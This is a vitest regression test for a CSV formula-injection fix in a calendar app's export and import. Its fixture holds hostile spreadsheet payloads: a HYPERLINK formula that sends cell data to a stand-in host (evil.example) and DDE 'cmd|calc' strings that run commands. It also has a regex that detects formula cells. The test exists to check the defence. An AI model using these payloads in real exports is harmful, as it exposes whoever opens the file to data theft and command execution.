import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { createClient } from '../../client/src';
import { importCsv } from '../../import-export/src/csv-import';
import { importLinkedCsv } from '../../import-export/src/csv-linked-import';
import { csv } from '../../import-export/src/export';
import { progress } from '../../import-export/src/progress';
import type { ImportState } from '../../import-export/src/state';
import { importClient } from '../../import-export/src/target';
import { useStack } from '../support/use-stack';

/**
 * Issue 43: the CSV export wrote formula cells as they are (CSV injection), and contributors can
 * write every field that carries one. Each comes out behind a `'`; the import keeps that protection,
 * and turns a protective leading tab (which it trimmed away) into one.
 */
const { api, tokens } = await useStack({ tokens: { admin: 'administrator' } });
const dir = mkdtempSync(join(tmpdir(), 'cal-csv-formulas-'));

const F = {
  title: '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  description: "+cmd|' /C calc'!A0",
  venue: '-2+3+cmd|calc!A0',
  organizer: '@SUM(1+1)*cmd|calc!A0',
  category: '=Category()',
  tag: '+Tag|x',
  phone: '=A1',
};

const collect = async (chunks: AsyncGenerator<string>) => {
  let out = '';
  for await (const c of chunks) out += c;
  return out;
};
const cells = (text: string) => (parse(text, { bom: true }) as string[][]).slice(1).flat();

beforeAll(async () => {
  const src = createClient({ baseUrl: api.base, token: tokens.admin });
  const { data: category } = await src.createCategory({ body: { name: F.category } });
  const { data: tag } = await src.createTag({ body: { name: F.tag } });
  const { data: venue } = await src.createVenue({
    body: { venue: F.venue, description: F.description, phone: F.phone, geo_lat: -33.9, geo_lng: -70.6 },
  });
  const { data: organizer } = await src.createOrganizer({
    body: { organizer: F.organizer, description: F.description, phone: '+47 22 33 44 55' },
  });
  await src.createEvent({
    body: {
      title: F.title,
      description: F.description,
      excerpt: F.description,
      start_date: '2031-05-01 19:00:00',
      end_date: '2031-05-01 21:00:00',
      status: 'publish',
      categories: [category.id],
      tags: [tag.id],
      venue: venue.id,
      organizer: [organizer.id],
    },
  });
});

describe('the CSV export', () => {
  it.each(['events', 'venues', 'organizers'] as const)(
    'writes no %s cell a spreadsheet would run',
    async (kind) => {
      const text = await collect(csv(importClient(api.base, tokens.admin), kind));
      const all = cells(text);

      expect(all.length).toBeGreaterThan(0);
      // A formula: `=` or `@` first, or `+` or `-` first with more than arithmetic on numbers after it.
      const runs = (c: string) =>
        /^[\t\r]*[=@\uFF1D\uFF20]/.test(c) || /^[\t\r]*[+\-\uFF0B\uFF0D].*[^\d\s().,+-]/.test(c);
      for (const cell of all) expect(runs(cell), cell).toBe(false);
    },
  );

  it('writes each field behind a quote, and numbers and phone numbers as they are', async () => {
    const api_ = importClient(api.base, tokens.admin);
    const events = cells(await collect(csv(api_, 'events')));
    for (const v of [F.title, F.description, F.venue, F.organizer, F.category, F.tag])
      expect(events, v).toContain(`'${v}`);
    const venues = cells(await collect(csv(api_, 'venues')));
    expect(venues).toContain(`'${F.phone}`);
    expect(venues).toContain('-33.9');
    expect(venues).toContain('-70.6');
    expect(cells(await collect(csv(api_, 'organizers')))).toContain('+47 22 33 44 55');
  });
});

describe('the CSV import', () => {
  const run = async (text: string, kind: 'events' | 'venues' = 'events') => {
    const file = join(dir, `${Math.random().toString(36).slice(2)}.csv`);
    writeFileSync(file, text);
    const state: ImportState = { version: 1, source: 'csv', target: api.base, records: {} };
    const o = {
      file,
      api: importClient(api.base, tokens.admin),
      state,
      dryRun: false,
      progress: progress(process.stderr, true),
      checkpoint: () => {},
    };
    return kind === 'events' ? importCsv(o) : importLinkedCsv('venues', o);
  };

  it('keeps a leading quote, and a leading tab as one, on every text column', async () => {
    const report = await run(
      [
        'Event Name,Event Start Date,Event Venue Name,Event Organizer Name,Event Category,Event Tags,Event Description',
        `"'=1+A1",2031-06-01,"\t=V()","\t@O()","\t+C()","'-T()","\t=D()"`,
        `"\t=2+A1",2031-06-02,,,,,`,
      ].join('\n'),
    );
    expect(report.skipped).toEqual([]);

    const list = (await api.get('/events?start_date=2031-06-01&end_date=2031-06-02&per_page=10')).body.events;
    const byDay = Object.fromEntries(list.map((e: any) => [e.start_date.slice(0, 10), e]));
    const first = byDay['2031-06-01'];
    expect(first.title).toBe("'=1+A1");
    expect(first.venue.venue).toBe("'=V()");
    expect(first.organizer.map((o: any) => o.organizer)).toEqual(["'@O()"]);
    expect(first.categories.map((c: any) => c.name)).toEqual(["'+C()"]);
    expect(first.tags.map((t: any) => t.name)).toEqual(["'-T()"]);
    expect(first.description).toBe("'=D()");
    expect(byDay['2031-06-02'].title).toBe("'=2+A1");
  });

  it('keeps it on venue files too, and reads numbers behind a tab as numbers', async () => {
    const report = await run(
      [
        'Venue Name,Venue Phone,Venue Latitude,Venue Longitude',
        `"\t=Hall()","\t+47 1","\t-12.5","\t-70"`,
      ].join('\n'),
      'venues',
    );
    expect(report.skipped, JSON.stringify(report.skipped)).toEqual([]);
    const found = (await api.get(`/venues?search=${encodeURIComponent('Hall')}`)).body.venues;
    const hall = found.find((v: any) => v.venue === "'=Hall()");
    expect(hall).toBeDefined();
    expect(hall.phone).toBe('+47 1');
    expect(Number(hall.geo_lat)).toBe(-12.5);
  });
});
